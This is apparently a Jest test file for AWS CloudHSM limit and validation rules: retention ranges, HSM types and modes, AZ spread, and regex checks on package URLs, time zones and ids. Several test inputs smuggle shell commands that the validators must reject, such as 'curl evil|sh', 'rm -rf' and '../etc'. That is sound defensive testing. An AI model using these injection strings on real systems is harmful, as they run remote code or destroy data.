import { CLOUDHSM, inRange, type Default, type Pattern, type Range } from "@cmk-stacks/aws-limits";

const AWS_DOC = /^https:\/\/docs\.aws\.amazon\.com\/\S+\.html$/;
const entries = Object.entries(CLOUDHSM);
const ranges = entries.filter(([, v]) => typeof v === "object" && v !== null && "min" in v) as [string, Range][];
const defaults = entries.filter(([name]) => name.endsWith("_DEFAULT")) as [string, Default<unknown>][];
const patterns = entries.filter(([, v]) => typeof v === "object" && v !== null && "regex" in v) as [string, Pattern][];

test("every range has min <= max and an AWS documentation page", () => {
  expect(ranges.map(([n]) => n).sort()).toEqual(["BACKUP_RETENTION_DAYS", "CLUSTER_PORTS", "HSMS_PER_CLUSTER"]);
  for (const [name, r] of ranges) expect([name, r.min <= r.max, AWS_DOC.test(r.doc)]).toEqual([name, true, true]);
});

test("every default names its AWS page and a reason", () => {
  expect(defaults.length).toBeGreaterThanOrEqual(6);
  for (const [name, d] of defaults)
    expect([name, AWS_DOC.test(String(d.doc)), (d.why ?? "").length > 0]).toEqual([name, true, true]);
});

test("every pattern names its AWS page and says what is allowed", () => {
  for (const [name, p] of patterns)
    expect([name, AWS_DOC.test(p.doc), p.allowed.length > 0]).toEqual([name, true, true]);
});

test("defaults are values the rules allow", () => {
  expect(inRange(CLOUDHSM.BACKUP_RETENTION_DAYS, CLOUDHSM.BACKUP_RETENTION_DAYS_DEFAULT.value)).toBe(true);
  expect(CLOUDHSM.HSM_TYPES).toContain(CLOUDHSM.HSM_TYPE_DEFAULT.value);
  expect(CLOUDHSM.CLUSTER_MODES).toContain(CLOUDHSM.CLUSTER_MODE_DEFAULT.value);
  expect(CLOUDHSM.modeAllowedFor(CLOUDHSM.HSM_TYPE_DEFAULT.value, CLOUDHSM.CLUSTER_MODE_DEFAULT.value)).toBe(true);
  expect(CLOUDHSM.INSTANCE_TYPE.regex.test(CLOUDHSM.ADMIN_HOST_INSTANCE_TYPE_DEFAULT.value)).toBe(true);
  expect(CLOUDHSM.ADMIN_HOST_CLI_PACKAGE.regex.test(CLOUDHSM.ADMIN_HOST_CLI_PACKAGE_DEFAULT.value)).toBe(true);
  expect(inRange(CLOUDHSM.HSMS_PER_CLUSTER, CLOUDHSM.KEY_STORE_MIN_HSMS.value)).toBe(true);
});

test.each([
  [6, false],
  [7, true],
  [90, true],
  [379, true],
  [380, false],
  [30.5, false],
  [Number.NaN, false],
])("backup retention of %s days allowed: %s", (days, allowed) => {
  expect(inRange(CLOUDHSM.BACKUP_RETENTION_DAYS, days)).toBe(allowed);
});

test.each([
  ["hsm1.medium", "FIPS", true],
  ["hsm1.medium", "NON_FIPS", false],
  ["hsm2m.medium", "NON_FIPS", true],
  ["hsm2m.medium", "FIPS", true],
])("a %s cluster in %s mode allowed: %s", (type, mode, allowed) => {
  expect(CLOUDHSM.modeAllowedFor(type, mode)).toBe(allowed);
});

test.each([
  [["eu-west-1a", "eu-west-1b"], true],
  [["eu-west-1a", "eu-west-1b", "eu-west-1a"], true],
  [["eu-west-1a"], false],
  [["eu-west-1a", "eu-west-1a"], false],
  [[], false],
])("HSMs in %j serve a key store: %s", (azs, ok) => {
  expect(CLOUDHSM.hsmAzsServeKeyStore(azs)).toBe(ok);
});

test.each([
  [
    "https://s3.amazonaws.com/cloudhsmv2-software/CloudHsmClient/Amzn2023/cloudhsm-cli-latest.amzn2023.x86_64.rpm",
    true,
  ],
  ["s3://my-mirror/cloudhsm/cloudhsm-cli.rpm", true],
  ["http://example.com/cloudhsm-cli.rpm", false],
  ["https://example.com/cli.rpm'; curl evil|sh; '", false],
  ["s3://my-mirror/cloudhsm-cli.deb", false],
])("CLI package %s allowed: %s", (source, ok) => {
  expect(CLOUDHSM.ADMIN_HOST_CLI_PACKAGE.regex.test(source)).toBe(ok);
});

test.each([
  ["ami-0123abcd", true],
  ["ami-0123456789abcdef0", true],
  ["ami-0123abc", false],
  ["ami-0123456789ABCDEF0", false],
])("AMI id %s allowed: %s", (id, ok) => {
  expect(CLOUDHSM.AMI_ID.regex.test(id)).toBe(ok);
});

describe("prodLikeBy (scale to zero's production markers)", () => {
  test.each([
    ["prod", {}, true, []],
    ["eu-prod-2", {}, true, []],
    ["production", {}, true, []],
    ["live", {}, true, []],
    ["products", {}, false, []],
    ["prodigy-lab", {}, false, []],
    ["sandbox", { Environment: "Production" }, false, ["Environment"]],
    ["sandbox", { stage: " prd " }, false, ["stage"]],
    ["sandbox", { Team: "prod", Environment: "dev" }, false, []],
    ["sandbox", undefined, false, []],
  ])("%s with tags %j: name %s, tags %j", (name, tags, byName, byTags) => {
    expect(CLOUDHSM.prodLikeBy(name, tags)).toEqual({ name: byName, tags: byTags });
  });

  test("the scale-to-zero patterns accept what they say and nothing else", () => {
    expect(["00:00", "07:30", "23:59"].every((t) => CLOUDHSM.SCALE_CLOCK_TIME.regex.test(t))).toBe(true);
    expect(["24:00", "7:30", "07:60", "0730", "07:30 "].some((t) => CLOUDHSM.SCALE_CLOCK_TIME.regex.test(t))).toBe(
      false,
    );
    expect(
      ["UTC", "Europe/Berlin", "America/Argentina/Buenos_Aires", "Etc/GMT+5"].every((t) =>
        CLOUDHSM.SCALE_TIMEZONE.regex.test(t),
      ),
    ).toBe(true);
    expect(["utc", "Europe", "Europe/Berlin'; rm", "../etc"].some((t) => CLOUDHSM.SCALE_TIMEZONE.regex.test(t))).toBe(
      false,
    );
  });
});

describe("HSM type migration and key store acceptance (issue 21)", () => {
  test("the only documented in-place change is hsm1.medium -> hsm2m.medium; never the reverse or a no-op", () => {
    expect(CLOUDHSM.hsmTypeMigrationDocumented("hsm1.medium", "hsm2m.medium")).toBe(true);
    expect(CLOUDHSM.hsmTypeMigrationDocumented("hsm2m.medium", "hsm1.medium")).toBe(false);
    expect(CLOUDHSM.hsmTypeMigrationDocumented("hsm2m.medium", "hsm2m.medium")).toBe(false);
    expect(CLOUDHSM.hsmTypeMigrationDocumented(undefined, "hsm2m.medium")).toBe(false);
  });

  test("the wait covers AWS's 30 minutes for every HSM plus one HSM's time", () => {
    expect([1, 2, 3, 0].map(CLOUDHSM.hsmTypeMigrationWaitMinutes)).toEqual([60, 90, 120, 60]);
    expect(CLOUDHSM.HSM_TYPE_ROLLBACK_HOURS.value).toBe(24);
    expect(AWS_DOC.test(CLOUDHSM.HSM_TYPE_MIGRATION_DOC)).toBe(true);
  });

  test("a key store accepts both HSM types today (checked on AWS's pages); a type missing from the list is refused", () => {
    expect(CLOUDHSM.HSM_TYPES.map((t) => CLOUDHSM.keyStoreAcceptsHsmType(t))).toEqual([true, true]);
    expect(CLOUDHSM.keyStoreAcceptsHsmType("hsm2m.medium", ["hsm1.medium"])).toBe(false);
    expect(CLOUDHSM.keyStoreAcceptsHsmType(42)).toBe(false);
    expect(AWS_DOC.test(CLOUDHSM.KEY_STORE_HSM_TYPES_DOC)).toBe(true);
  });

  test.each([
    ["hsm2m.medium", true],
    ["hsm1.medium", true],
    ["phsm9x.large", true],
    ["hsm2m.medium;rm -rf", false],
    ["HSM2.medium", false],
    [`hsm2${"a".repeat(40)}.medium`, false],
  ])("HSM_TYPE pattern: %s -> %s", (v, ok) => expect(CLOUDHSM.HSM_TYPE.regex.test(v)).toBe(ok));

  test.each([
    ["hsm-abcdefghijk", true],
    ["hsm-abc", false],
    ["hsm-abcdefghij1", false],
  ])("HSM_ID pattern: %s -> %s", (v, ok) => expect(CLOUDHSM.HSM_ID.regex.test(v)).toBe(ok));
});

describe("hsmsImportedTwice", () => {
  const azs = ["eu-west-1a", "eu-west-1b", "eu-west-1b"];
  test("each position imports its adopted HSM, else the restored one at its index; a second import of an id is named", () => {
    expect(
      CLOUDHSM.hsmsImportedTwice(azs, { "eu-west-1b-2": "hsm-aaaaaaaaaaa" }, ["hsm-aaaaaaaaaaa", "hsm-bbbbbbbbbbb"]),
    ).toEqual([{ field: "adoptHsms.eu-west-1b-2", hsmId: "hsm-aaaaaaaaaaa", first: "restored.hsmIds.0" }]);
  });
  test("an adopted HSM replaces the restored one at its own address: one import", () => {
    expect(CLOUDHSM.hsmsImportedTwice(azs, { "eu-west-1a-1": "hsm-aaaaaaaaaaa" }, ["hsm-aaaaaaaaaaa"])).toEqual([]);
  });
  test("an id twice in the restored ids alone is left to their each-once rule; non-strings are skipped", () => {
    expect(CLOUDHSM.hsmsImportedTwice(azs, undefined, ["hsm-aaaaaaaaaaa", "hsm-aaaaaaaaaaa"])).toEqual([]);
    expect(CLOUDHSM.hsmsImportedTwice([null, "eu-west-1a"], { "eu-west-1a-1": 5 }, [undefined])).toEqual([]);
  });
});
